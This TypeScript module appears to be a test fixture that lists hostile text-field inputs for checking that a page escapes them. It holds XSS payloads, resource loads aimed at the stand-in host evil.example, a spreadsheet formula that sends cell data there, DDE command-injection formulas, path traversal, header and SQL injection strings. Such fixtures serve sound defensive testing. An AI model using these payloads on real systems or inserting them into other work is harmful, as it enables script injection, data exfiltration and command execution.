/**
 * What hostile people type into text fields: after DOMPurify's and the “naughty strings” lists, in a small own selection.
 * A payload that is run calls `alert`; a payload that is loaded asks the address below.
 */
export const trapHost = 'evil.example';

const alerts: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '" onmouseover="alert(1)',
  `' onfocus='alert(1)' autofocus='`,
  '"><img src=x onerror=alert(1)>',
  `'-alert(1)-'`,
  '\\";alert(1);//',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '[x](javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
];

const loads: readonly string[] = [
  `<img src=https://${trapHost}/a.png>`,
  `<link rel=stylesheet href=https://${trapHost}/a.css>`,
  `<meta http-equiv=refresh content="0;url=https://${trapHost}/">`,
  `<base href=https://${trapHost}/>`,
  `![x](https://${trapHost}/?d=notes)`,
  `<style>@import 'https://${trapHost}/a.css';</style>`,
  `<table background=https://${trapHost}/b.png>`,
  `<audio autoplay src=https://${trapHost}/a.mp3></audio>`,
];

const naughty: readonly string[] = [
  `=HYPERLINK("https://${trapHost}/?"&A1,"x")`,
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+1+1',
  '-2+3',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON.txt',
  '00:00:01.000 --> 00:00:09.000',
  'BEGIN:VEVENT',
  '%s%n%x',
  '%0d%0aSet-Cookie: a=b',
  '1;drop table tasks',
  'NULL',
  'undefined',
  '-1/0',
  '1e309',
  '0x7f',
  'true',
  '­­­soft hyphens',
  'ﷺ Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤',
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
  'שלום <b>bold</b> مرحبا',
  '\u202egpj.exe',
  'ÅÍÎÏ˝ÓÔ\uf8ffÒÚÆ☃',
  'If you’re reading this, you’ve been in a coma',
  '"\'`\\',
];

export const payloads: readonly string[] = [...alerts, ...loads, ...naughty];

/** Whether a piece of HTML would do something: text of these is escaped wherever it stands in a page. */
export const isMarkup = (payload: string): boolean => /<[a-z!/]/i.test(payload);
